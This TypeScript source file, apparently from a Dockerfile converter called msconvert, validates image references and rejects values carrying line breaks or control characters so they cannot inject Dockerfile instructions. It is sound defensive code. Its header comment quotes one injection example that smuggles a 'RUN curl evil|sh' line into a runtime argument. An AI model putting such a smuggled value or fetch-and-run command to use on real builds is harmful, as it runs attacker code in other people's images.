// Values that reach the output (image names, paths, users, names read from manifests and the
// context) are checked against their grammar before they are written: a line break in a
// value would otherwise become an instruction of its own (`--runtime $'alpine\nRUN curl
// evil|sh'`), and a control character would reach the user's terminal through the diff.

/** A value msconvert will not write into a Dockerfile; convert() reports it as an error. */
export class UnsafeValue extends Error {
  readonly code = 'MSC909' as const;
}

// The distribution reference grammar (github.com/distribution/reference, regexp.go). Each part
// is a sequence of mandatory separators, so none of them can backtrack badly, and the input is
// bounded before it is tried.
const ALNUM = '[a-z0-9]+';
const SEPARATOR = '(?:[._]|__|[-]+)';
const PATH_COMPONENT = `${ALNUM}(?:${SEPARATOR}${ALNUM})*`;
const DOMAIN_COMPONENT = '(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])';
const DOMAIN_NAME = `${DOMAIN_COMPONENT}(?:\\.${DOMAIN_COMPONENT})*`;
const IPV6 = '\\[(?:[a-fA-F0-9:]+)\\]';
const DOMAIN = `(?:${DOMAIN_NAME}|${IPV6})(?::[0-9]+)?`;
const NAME = `(?:${DOMAIN}/)?${PATH_COMPONENT}(?:/${PATH_COMPONENT})*`;
const TAG = '[\\w][\\w.-]{0,127}';
const DIGEST = '[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}';
const REFERENCE = new RegExp(`^${NAME}(?::${TAG})?(?:@${DIGEST})?$`);

/** Longest reference Docker accepts is bounded by its name (255) plus tag and digest. */
const MAX_REFERENCE = 512;

/**
 * Why `value` is not an image reference Docker accepts in FROM (name[:tag][@digest], lower-case
 * repository, no spaces, no `AS`), or null when it is one.
 */
export function imageReferenceProblem(value: string): string | null {
  if (value === '') return 'an image name is needed';
  if (CONTROL.test(value)) return 'it contains a line break or a control character';
  if (/\s/.test(value)) return 'an image reference has no spaces';
  if (value.length > MAX_REFERENCE) return `longer than ${MAX_REFERENCE} characters`;
  if (!REFERENCE.test(value)) {
    return 'not an image reference (name[:tag][@digest], like alpine:3.20 or gcr.io/distroless/static-debian12)';
  }
  const name = value.replace(/@.*$/, '').replace(/:[\w][\w.-]*$/, '');
  if (name.length > 255) return 'the image name is longer than 255 characters';
  return null;
}

/** C0 controls (line breaks included), DEL and C1 controls. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

/** Throws UnsafeValue when a generated instruction carries a line break or control character. */
export function assertOneLine(instruction: string): void {
  const m = CONTROL.exec(instruction.replace(/\t/g, ' '));
  if (!m) return;
  const c = m[0].charCodeAt(0);
  const what =
    c === 10 || c === 13
      ? 'a line break'
      : `the control character U+${c.toString(16).toUpperCase().padStart(4, '0')}`;
  const effect =
    c === 10 || c === 13
      ? 'which would add an instruction nobody wrote'
      : 'which has no place in a Dockerfile line';
  throw new UnsafeValue(
    `a value msconvert would write into the runtime stage contains ${what} (${JSON.stringify(instruction.slice(0, 80))}), ${effect}; nothing was converted`,
  );
}
